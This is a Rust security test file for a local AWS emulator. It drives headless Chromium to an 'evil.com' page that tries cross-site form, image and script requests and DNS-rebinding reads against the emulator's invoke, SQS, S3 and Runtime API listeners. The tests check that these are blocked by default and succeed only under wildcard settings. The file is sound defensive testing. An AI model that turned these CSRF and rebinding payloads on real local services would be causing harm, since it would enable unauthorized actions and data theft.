//! Web pages in a real Chromium: a page of another site, and a front-end on another port of this machine. See
//! `docs/security.md`; the module `web_pages` has the same rules on every listener.

use std::io::{self, BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::OnceLock;
use std::thread;

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::{
    Missing, MockServer, Project, RAW_BOOTSTRAP, SERVICES, Server, eventually, tool,
};

const REQUESTS: &str = include_str!("../../fixtures/pages/requests.js");
const ATTACK: &str = include_str!("../../fixtures/pages/attack.html");

/// The name of the attacker's site, and one by which a container network knows this machine. Both lead to this machine.
const NAMES: &str = "MAP evil.com 127.0.0.1, MAP mybox 127.0.0.1";

/// Chromium with a profile of its own. Dropping it ends it.
pub struct Browser {
    child: Child,
    _profile: TempDir,
}

impl Browser {
    /// Opens a page.
    pub fn open(url: &str) -> Result<Self, Missing> {
        let mut probe = Command::new("chromium");
        probe.arg("--version");
        tool("chromium", probe)?;
        let profile = tempfile::tempdir().unwrap();
        let child = Command::new("chromium")
            // Chromium's own sandbox, which protects from its pages, needs rights that containers lack.
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
            ])
            .args(["--no-first-run", "--disable-background-networking"])
            .arg(format!("--host-resolver-rules={NAMES}"))
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg(url)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        Ok(Self {
            child,
            _profile: profile,
        })
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.child.kill(); // it may have ended
        let _ = self.child.wait(); // it may have been waited for
    }
}

/// A server whose page runs these attempts, written in JavaScript. The page's name is `host`.
fn visit(host: &str, attempts: impl FnOnce(&str) -> String) -> Result<Value, Missing> {
    let page: &'static OnceLock<String> = Box::leak(Box::default());
    let site = MockServer::start(|request| {
        let is_page = request.head.starts_with("GET / ");
        let body = if is_page { page.get().cloned() } else { None };
        Some((200, body.unwrap_or_default()))
    });
    let url = site.url().replace("127.0.0.1", host);
    let attempts = attempts(&url);
    let html = format!(
        "<!doctype html><meta charset=utf-8><body><script>{REQUESTS}\nreport({{\n{attempts}\n}});</script>"
    );
    page.set(html).unwrap();
    let _browser = Browser::open(&url)?;
    let done = || {
        let mut requests = site.requests().into_iter();
        requests.find(|request| request.head.starts_with("POST /done "))
    };
    eventually("the page", || done().is_some());
    Ok(done().unwrap().json())
}

/// The attacker's server on a port of its own: it has the attacking page, and everything else on this port is the
/// listener at `url`, as after the attacker has let the name lead to this machine.
fn rebinding(url: &str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let target = url.trim_start_matches("http://").to_owned();
    thread::spawn(move || {
        for stream in listener.incoming().filter_map(Result::ok) {
            let target = target.clone();
            thread::spawn(move || rebind(stream, &target));
        }
    });
    format!("http://evil.com:{port}")
}

fn rebind(mut client: TcpStream, target: &str) -> io::Result<()> {
    let mut from_client = BufReader::new(client.try_clone()?);
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") {
        if from_client.read_line(&mut head)? == 0 {
            return Ok(());
        }
    }
    if head.starts_with("GET /attack.html ") {
        let length = ATTACK.len();
        return write!(
            client,
            "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {length}\r\n\r\n{ATTACK}"
        );
    }
    let mut server = TcpStream::connect(target)?;
    server.write_all(head.as_bytes())?;
    let (mut to_client, mut from_server) = (client, server.try_clone()?);
    let answers = thread::spawn(move || io::copy(&mut from_server, &mut to_client));
    io::copy(&mut from_client, &mut server)?;
    let _ = answers.join(); // the test looks at what the page has noticed
    Ok(())
}

fn port(url: &str) -> &str {
    url.rsplit(':').next().unwrap()
}

fn project(top: &str) -> Project {
    let project = Project::new("");
    project.file(
        "lambkin.toml",
        format!(
            "{top}\ninvoke.listen = '127.0.0.1:0'\n[functions.echo]\ncode = '{RAW_BOOTSTRAP}'\n\
             [queues.kept]\n[queues.deleted1]\n[queues.deleted2]\n[queues.deleted3]\n[buckets.photos]\n{SERVICES}verify-signatures = false\n"
        ),
    );
    project
}

const INVOKE: &str = "/2015-03-31/functions/echo/invocations";

/// What a page of another site tries. Every name is that of an effect or of something that the page reads.
fn attacks(server: &Server, runtime_api: &str) -> String {
    let (invoke, sqs, s3) = (
        server.invoke_url(),
        server.service_url("sqs"),
        server.service_url("s3"),
    );
    let sqs_port = port(sqs);
    let delete = |queue: &str| {
        format!("?Action=DeleteQueue&QueueUrl=http%3A//localhost/123456789012/{queue}")
    };
    let [local, any, named] = ["deleted1", "deleted2", "deleted3"].map(delete);
    let message = |body: &str| {
        format!(
            "{{ Action: 'SendMessage', MessageBody: '{body}', QueueUrl: 'http://localhost/123456789012/kept' }}"
        )
    };
    let (by_form, by_script) = (message("form"), message("script"));
    let [evil_invoke, evil_sqs, evil_s3, evil_runtime] =
        [invoke, sqs, s3, runtime_api].map(rebinding);
    format!(
        "
        invokedByScript: () => send('{invoke}{INVOKE}', {{ method: 'POST', body: '\"script\"' }}),
        invokedByForm: () => form('{invoke}{INVOKE}', 'text/plain', {{ '[\"form': '\"]' }}),
        readByScript: () => read('{invoke}/2015-03-31/functions/'),
        sentByForm: () => form('{sqs}/', 'application/x-www-form-urlencoded', {by_form}),
        sentByScript: () => send('{sqs}/', {{ method: 'POST', body: new URLSearchParams({by_script}) }}),
        deletedByImage: () => image('{sqs}/{local}'),
        deletedByImageWithoutLabels: () => image('http://0.0.0.0:{sqs_port}/{any}'),
        deletedByLinkToName: () => link('http://mybox:{sqs_port}/{named}'),
        storedByForm: () => form('{s3}/photos', 'multipart/form-data',
            {{ key: 'form', success_action_status: '200', file: 'x' }}),
        storedByScript: () => {{
            const data = new FormData();
            data.append('key', 'script');
            data.append('file', new Blob(['x']), 'f');
            return send('{s3}/photos', {{ method: 'POST', body: data }});
        }},
        storedByPut: () => read('{s3}/photos/put', {{ method: 'PUT', body: 'x' }}),
        reboundInvoke: () => rebound('{evil_invoke}', '/2015-03-31/functions/'),
        reboundQueues: () => rebound('{evil_sqs}', '/?Action=ListQueues'),
        reboundObjects: () => rebound('{evil_s3}', '/photos?list-type=2'),
        reboundRuntime: () => rebound('{evil_runtime}', '/2018-06-01/ping'),
        "
    )
}

/// The effects of a page, and what it has noticed.
struct Attacked {
    noticed: Value,
    invocations: usize,
    messages: u64,
    queues: usize,
    objects: usize,
}

/// Opens the page of another site while `lambkin` runs with these lines at the top of its configuration.
fn attack(top: &str) -> Result<Attacked, Missing> {
    let server = project(top).serve();
    // Starts an environment, which has a Runtime API.
    let address = server
        .invoke("echo", r#"{"env":"AWS_LAMBDA_RUNTIME_API"}"#)
        .json();
    let runtime_api = format!("http://{}", address.as_str().unwrap());
    let noticed = visit("evil.com", |_| attacks(&server, &runtime_api))?;
    let last = server.invoke("echo", r#"{"eprint":"the last one"}"#);
    assert_eq!(last.status, 200);
    let log = server.log_with("the last one");
    let queues = server.sqs_ok("ListQueues", &json!({}));
    let objects = ["form", "script", "put"].map(|key| {
        let reply = server.s3("GET", &format!("/photos/{key}"), &[], b"");
        usize::from(reply.status == 200)
    });
    Ok(Attacked {
        noticed,
        invocations: log.matches("START RequestId").count() - 2,
        messages: server.counts("kept").iter().sum(),
        queues: queues["QueueUrls"].as_array().unwrap().len(),
        objects: objects.iter().sum(),
    })
}

#[test]
fn a_page_of_another_site_has_no_effect_and_reads_nothing() {
    let Ok(attacked) = attack("") else { return };
    let noticed = &attacked.noticed;
    for name in ["reboundInvoke", "reboundQueues", "reboundObjects"] {
        let text = noticed[name].as_str().unwrap();
        assert!(
            text.starts_with("403 ") && text.contains("allowed-hosts"),
            "{noticed}"
        );
    }
    // A listener may also close the connection of a client that is not a process of the function.
    let text = noticed["reboundRuntime"].as_str().unwrap();
    assert!(text.starts_with("403 ") || text == "failed", "{noticed}");
    assert_eq!(noticed["readByScript"], "failed", "{noticed}");
    assert_eq!(noticed["storedByPut"], "failed", "{noticed}");
    assert_eq!(attacked.invocations, 0, "{noticed}");
    assert_eq!(attacked.messages, 0, "{noticed}");
    assert_eq!(attacked.queues, 4, "{noticed}");
    assert_eq!(attacked.objects, 0, "{noticed}");
}

/// The attacks are real: they succeed where the operator allows all hosts and pages.
#[test]
fn the_same_page_succeeds_where_everything_is_allowed() {
    let Ok(attacked) = attack("allowed-hosts = ['*']\nallowed-origins = ['*']") else {
        return;
    };
    let noticed = &attacked.noticed;
    for (name, text) in [
        ("reboundInvoke", "\"FunctionName\":\"echo\""),
        ("reboundQueues", "/kept</QueueUrl>"),
        ("reboundObjects", "<Key>form</Key>"),
    ] {
        assert!(noticed[name].as_str().unwrap().contains(text), "{noticed}");
    }
    assert_eq!(attacked.invocations, 2, "{noticed}");
    assert_eq!(attacked.messages, 2, "{noticed}");
    assert_eq!(attacked.queues, 1, "{noticed}");
    assert_eq!(attacked.objects, 2, "{noticed}"); // a PUT needs CORS
}

#[test]
fn a_front_end_on_another_port_of_this_machine_works() {
    let server = project("").serve();
    let (invoke, sqs, s3) = (
        server.invoke_url(),
        server.service_url("sqs"),
        server.service_url("s3"),
    );
    let sqs_port = port(sqs);
    let noticed = visit("localhost", |origin| {
        let cors = format!(
            "<CORSConfiguration><CORSRule><AllowedOrigin>{origin}</AllowedOrigin><AllowedMethod>PUT</AllowedMethod>\
             <AllowedMethod>GET</AllowedMethod><AllowedHeader>*</AllowedHeader></CORSRule></CORSConfiguration>"
        );
        let put = server.s3("PUT", "/photos?cors", &[], cors.as_bytes());
        assert_eq!(put.status, 200, "{put:?}");
        let message =
            "Action=SendMessage&MessageBody=m&QueueUrl=http%3A//localhost/123456789012/kept";
        format!(
            "
            invoked: () => send('{invoke}{INVOKE}', {{ method: 'POST', body: '1' }}),
            sent: () => send('{sqs}/', {{ method: 'POST', body: new URLSearchParams('{message}') }}),
            sentByImage: () => image('http://localhost:{sqs_port}/?{message}'),
            stored: () => read('{s3}/photos/put', {{ method: 'PUT', body: 'hello' }}),
            read: () => read('{s3}/photos/put'),
            storedByForm: () => form('{s3}/photos', 'multipart/form-data',
                {{ key: 'form', success_action_status: '200', file: 'x' }}),
            "
        )
    });
    let Ok(noticed) = noticed else { return };
    assert_eq!(noticed["stored"], "200 ", "{noticed}");
    assert_eq!(noticed["read"], "200 hello", "{noticed}");
    assert_eq!(server.counts("kept"), [2, 0, 0]);
    assert_eq!(server.s3("GET", "/photos/form", &[], b"").text(), "x");
    assert_eq!(
        server.invoke("echo", r#"{"eprint":"the last one"}"#).status,
        200
    );
    let log = server.log_with("the last one");
    assert_eq!(log.matches("START RequestId").count(), 2, "{log}");
    assert!(!log.contains("refused"), "{log}");
}
